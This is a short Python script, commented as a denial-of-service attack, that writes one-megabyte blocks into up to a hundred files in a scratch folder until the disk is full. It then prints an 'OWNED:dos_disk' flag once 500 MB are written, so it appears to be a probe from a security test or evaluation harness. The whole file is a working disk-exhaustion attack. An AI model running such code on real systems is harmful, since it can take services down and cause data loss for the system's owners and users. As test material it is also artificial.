# dos: fill the disk from the scratch folder
n=0
for i in range(100):
    try:
        with open(f'd{i}','wb') as f:
            while True: n+=f.write(b'x'*1_000_000)
    except OSError as e: print(e)
if n>=500_000_000: print('OWNED:dos_disk')
